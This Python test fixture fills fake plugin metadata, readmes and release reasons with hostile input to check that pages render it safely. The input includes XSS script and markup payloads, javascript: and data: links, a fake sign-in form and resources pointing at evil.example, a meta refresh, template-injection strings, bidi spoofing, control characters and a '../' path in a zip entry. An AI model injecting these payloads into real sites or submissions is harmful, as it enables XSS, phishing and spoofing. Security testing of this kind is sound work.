"""A publisher whose every text is an attack on pages: scripts, markup, links, bidi, length, emoji, NUL."""

from collections.abc import Mapping

from pfn.testing.plugin import plugin_zip
from pfn.testing.publisher_v2 import FakePublisherV2

ELSEWHERE = "http://evil.example"
SCRIPT = "<script>alert(1)</script>"
MARKUP = f'"><img src="{ELSEWHERE}/x.png" onerror="alert(2)"><svg onload=alert(3)></h1></main></body>'
STYLE = f"<style>@import url({ELSEWHERE}/x.css); body {{ display: none }}</style>"
TEMPLATE = "{{ 7 * 7 }}{% raw %}%(name)s ${alert(4)}"
LINK = "javascript:alert(5)"
BIDI = "safe \u202egpj.exe\u2066\u202a\u200f\u061c"
EMOJI = "\U0001f9e8\U0001f468\u200d\U0001f469\u200d\U0001f467" + "e\u0301\u0315\u0353\u0329" * 20
LONG = "W" * 10_000
WIDE = "\ufdfd" * 150

# By slug: what is written into every field that has room for it.
TEXTS: Mapping[str, str] = {
    "hostile-script": SCRIPT + MARKUP,
    "hostile-style": STYLE + TEMPLATE + LINK,
    "hostile-bidi": BIDI + EMOJI,
    "hostile-long": LONG,
    "hostile-wide": WIDE,
}

_SECTION = f"""
{SCRIPT}{MARKUP}{STYLE}{TEMPLATE}
<iframe src="{ELSEWHERE}/frame"></iframe>
<form action="{ELSEWHERE}/take"><input name="key"><button>Sign in</button></form>
<a href="{LINK}">one</a> <a href="data:text/html,{SCRIPT}">two</a> <a href=" JaVaScRiPt&colon;alert(6)">three</a>
[four]({LINK}) [five](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) ![six]({ELSEWHERE}/six.png)
<meta http-equiv="refresh" content="0; url={ELSEWHERE}/gone"><base href="{ELSEWHERE}/">
<link rel=stylesheet href="{ELSEWHERE}/x.css">
<p style="position: fixed; inset: 0; background: url({ELSEWHERE}/cover.png)" id="main" onclick="alert(8)">covered</p>
a NUL: \0 and other controls: \x07\x1b[31m

{BIDI} {EMOJI} {WIDE}

{LONG}

`{LONG[:3000]}`

    {LONG[:3000]}
"""


def publish_attacks(publisher: FakePublisherV2) -> None:
    """Revoke a key and publish a plugin for each of ``TEXTS``; yank one and break one, all with words as bad."""
    publisher.revoke_release_key(reason=(MARKUP + LONG)[:500])
    for slug, text in TEXTS.items():
        publisher.add_plugin(
            slug,
            "1.0.0",
            name=text[:200],
            description=text[:2000],
            tags=(text[:100].replace(",", ""), "hostile"),
            files={f"{slug}.php": _main_file(text), "readme.txt": _readme(text)},
        )
    publisher.add_plugin("hostile-yanked", "1.0.0", description="The first one.")
    publisher.add_plugin("hostile-yanked", "1.1.0", description="The next one.")
    publisher.yank("hostile-yanked", "1.0.0", reason=(SCRIPT + MARKUP + BIDI + LONG)[:500])
    path = f"../{SCRIPT}{MARKUP}{LONG[:200]}.php"
    content = plugin_zip("hostile-held", "1.0.0", files={path: b"<?php // never served"})
    publisher.add_plugin("hostile-held", "1.0.0", name=SCRIPT + MARKUP, content=content)


def _main_file(text: str) -> bytes:
    line = text.replace("*/", "")
    return f"""<?php
/*
Plugin Name: {line[:200]}
Version: 1.0.0
Description: {line}
Author: {line}
Author URI: {LINK}
Plugin URI: {LINK}
License: {line}
License URI: data:text/html,{SCRIPT}
Text Domain: {line}
Tags: {line[:100].replace(",", "")}, hostile
Requires at least: 5.9{SCRIPT}
Requires PHP: 7.4{MARKUP}
*/
""".encode()


def _readme(text: str) -> bytes:
    return f"""=== {text[:200]} ===
Contributors: {text}
Donate link: {LINK}
Tags: {text[:100].replace(",", "")}, hostile
Requires at least: {SCRIPT}
Tested up to: {MARKUP}
Stable tag: 1.0.0
License: {text}

{text[:2000]}

== Description ==
{_SECTION}
== Installation ==
{_SECTION}
== Frequently Asked Questions ==
= {SCRIPT}{LONG[:2000]} =
{_SECTION}
== Changelog ==
= {MARKUP} =
{_SECTION}
== Upgrade Notice ==
{_SECTION}
== {SCRIPT} ==
{_SECTION}
""".encode()
